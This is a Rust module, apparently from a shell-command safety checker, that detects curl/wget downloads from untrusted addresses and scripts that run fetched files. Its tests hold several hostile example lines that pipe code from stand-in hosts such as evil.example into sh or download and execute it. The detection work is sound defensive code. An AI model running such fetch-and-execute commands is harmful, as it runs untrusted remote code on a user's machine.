//! Which addresses a shell line fetches from, whether they are installers that everybody knows, and whether a fetched
//! file is run later.

/// Whether every address that a line fetches is one of the trusted ones. Each trusted one is `https://host/path-prefix`.
pub(super) fn all_trusted(line: &str, trusted: &[String]) -> bool {
    let fetches = fetches(line);
    !fetches.is_empty()
        && fetches.iter().all(|fetch| {
            !fetch.addresses.is_empty() && fetch.addresses.iter().all(|address| is_trusted(address, trusted))
        })
}

#[derive(Debug, PartialEq, Eq)]
struct Fetch {
    addresses: Vec<String>,
    /// The file that is filled.
    file: Option<String>,
}

/// The downloads of a line: from `curl` or `wget` up to the next pipe, semicolon or `&&`.
fn fetches(line: &str) -> Vec<Fetch> {
    let mut found = Vec::new();
    for part in line.split(['|', ';', '\n', '`', ')']).flat_map(|part| part.split("&&")) {
        let mut words =
            part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '\\', '(', '[', ',', ']']));
        let Some(program) = words.find(|word| is_fetcher(word)) else { continue };
        let mut fetch = Fetch { addresses: Vec::new(), file: None };
        let mut takes_file = false;
        for word in words {
            if std::mem::take(&mut takes_file) {
                fetch.file = Some(word.to_owned());
            } else if word == "-o" || word == "--output" || word == ">" || word == "--output-document" {
                takes_file = true;
            } else if let Some(letters) = word.strip_prefix('-').filter(|letters| !letters.starts_with('-')) {
                // `-fsSLo file`; wget's capital letter names a file and curl's does not.
                takes_file = letters.ends_with('o') || program.ends_with("wget") && letters.ends_with('O');
            } else if !word.starts_with('-') && (word.contains('.') || word.contains("//")) {
                fetch.addresses.push(word.to_owned());
            }
        }
        if fetch.file.is_none() {
            fetch.file =
                fetch.addresses.first().and_then(|address| address.rsplit('/').next()).map(str::to_owned);
        }
        found.push(fetch);
    }
    found
}

fn is_fetcher(word: &str) -> bool {
    let name = word.rsplit(['/', '(', '"', '\'']).next().unwrap_or(word);
    matches!(name, "curl" | "wget")
}

fn is_trusted(address: &str, trusted: &[String]) -> bool {
    if is_this_machine(address) {
        return true;
    }
    let Some(rest) = address.strip_prefix("https://") else { return false };
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    // Names of users, ports and climbing paths have no place in an installer's address.
    if host.contains(['@', ':', '\\', '{', '$'])
        || path.contains("..")
        || path.contains("%2e")
        || path.contains("%2E")
    {
        return false;
    }
    trusted.iter().any(|known| {
        let known = known.strip_prefix("https://").unwrap_or(known);
        let (known_host, known_path) = known.split_once('/').unwrap_or((known, ""));
        host.eq_ignore_ascii_case(known_host) && path.starts_with(known_path)
    })
}

fn is_this_machine(address: &str) -> bool {
    let rest =
        address.strip_prefix("http://").or_else(|| address.strip_prefix("https://")).unwrap_or(address);
    let host = rest.split('/').next().unwrap_or(rest);
    let (host, port) = host.split_once(':').unwrap_or((host, ""));
    let is_port = |c: char| c.is_ascii_digit() || c.is_ascii_uppercase() || "${}()_".contains(c);
    matches!(host, "localhost" | "127.0.0.1") && port.chars().all(is_port)
}

/// The line (from 1) that runs a file which an earlier command fetched from an address that is not trusted.
pub(super) fn fetched_file_is_run(script: &str, trusted: &[String]) -> Option<u32> {
    let mut files: Vec<String> = Vec::new();
    for (index, line) in script.lines().enumerate() {
        let runs = |part: &str| runs_one_of(part, &files);
        if !files.is_empty() && line.split(['|', ';', '&']).any(runs) {
            return u32::try_from(index + 1).ok();
        }
        let unknown = fetches(line)
            .into_iter()
            .filter(|fetch| !fetch.addresses.iter().all(|address| is_trusted(address, trusted)));
        files.extend(unknown.filter_map(|fetch| fetch.file).take(64usize.saturating_sub(files.len())));
        if line.split(['|', ';', '&']).any(|part| runs_one_of(part, &files)) {
            return u32::try_from(index + 1).ok();
        }
    }
    None
}

fn runs_one_of(part: &str, files: &[String]) -> bool {
    const INTERPRETERS: &[&str] =
        &["sh", "bash", "zsh", "dash", "python", "python3", "perl", "node", "source", "."];
    let plain = |word: &str| word.trim_matches(['"', '\'']).trim_start_matches("./").to_owned();
    let is_prefix = |word: &str| matches!(word, "sudo" | "env" | "nohup" | "exec") || word.contains('=');
    let mut words = part.split_whitespace().skip_while(|word| is_prefix(word));
    let Some(first) = words.next() else { return false };
    let is_fetched = |word: &str| files.iter().any(|file| plain(file) == plain(word));
    let name = first.rsplit('/').next().unwrap_or(first);
    is_fetched(first)
        || (INTERPRETERS.contains(&name) || first.contains("sys.executable"))
            && words.find(|word| !word.starts_with('-')).is_some_and(is_fetched)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn trusted() -> Vec<String> {
        vec!["https://sh.rustup.rs".to_owned(), "https://raw.githubusercontent.com/nvm-sh/nvm/".to_owned()]
    }

    #[test]
    fn the_fetched_address_itself_must_be_trusted() {
        for line in [
            "curl -sSf https://sh.rustup.rs | sh",
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
            "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.0/install.sh | bash",
            "bash -c \"$(curl -fsSL https://sh.rustup.rs)\"",
        ] {
            assert!(all_trusted(line, &trusted()), "{line}");
        }
        for line in [
            "curl http://sh.rustup.rs | sh",
            "curl http://evil.example/x | sh -s https://sh.rustup.rs",
            "curl https://sh.rustup.rs@evil.example/x | sh",
            "curl https://sh.rustup.rs.evil.example/x | sh",
            "curl https://raw.githubusercontent.com/evil/x/a.sh | sh",
            "curl https://raw.githubusercontent.com/nvm-sh/nvm/../../evil/x | sh",
            "curl https://sh.rustup.rs http://evil.example/x | sh",
            "curl evil.example/x https://sh.rustup.rs | sh",
            "curl https://sh.rustup.rs | sh; curl http://evil.example | sh",
            "curl $URL | sh",
        ] {
            assert!(!all_trusted(line, &trusted()), "{line}");
        }
    }

    #[test]
    fn a_fetched_file_that_is_run_is_seen() {
        for (script, line) in [
            ("curl -o /tmp/x http://e.example/x\nsh /tmp/x\n", 2),
            ("wget http://e.example/run.sh\nchmod +x run.sh\n./run.sh\n", 3),
            ("wget http://e.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n", 1),
            ("curl -fsSLo a.py http://e.example/b\npython3 a.py\n", 2),
        ] {
            assert_eq!(fetched_file_is_run(script, &trusted()), Some(line), "{script}");
        }
        for script in [
            "curl -o /tmp/x.tgz http://e.example/x.tgz\ntar xf /tmp/x.tgz\n",
            "curl -o rustup.sh https://sh.rustup.rs\nsh rustup.sh\n",
            "curl -o a.sh http://e.example/a.sh\nsh b.sh\n",
        ] {
            assert_eq!(fetched_file_is_run(script, &trusted()), None, "{script}");
        }
    }
}
